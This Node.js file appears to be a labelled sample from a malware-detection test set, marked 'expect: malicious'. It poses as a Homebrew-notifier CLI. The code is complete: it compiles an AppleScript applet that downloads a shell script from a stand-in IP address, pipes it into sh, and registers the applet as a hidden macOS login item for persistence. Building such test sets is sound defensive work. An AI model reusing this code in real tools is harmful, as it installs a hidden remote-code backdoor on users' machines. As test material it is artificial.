// expect: malicious
// source: blind set 22 (persistence): a Homebrew-notifier CLI that, on first run, compiles an AppleScript applet whose
// `do shell script` pipes a download into sh and registers it as a hidden macOS login item (MITRE T1547.015).
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');
const APP = path.join(os.homedir(), 'Library', 'Application Support', '.notify', 'UpdateHelper.app');
const SOURCE = 'try\n  do shell script "curl -fsS http://198.51.100.61/u/mac.sh | /bin/sh >/dev/null 2>&1 &"\nend try';
const src = path.join(os.tmpdir(), 'helper.applescript');
fs.writeFileSync(src, SOURCE);
execFileSync('osacompile', ['-o', APP, src]);
execFileSync('osascript', ['-e', `tell application "System Events" to make login item at end with properties {path:"${APP}", hidden:true}`]);
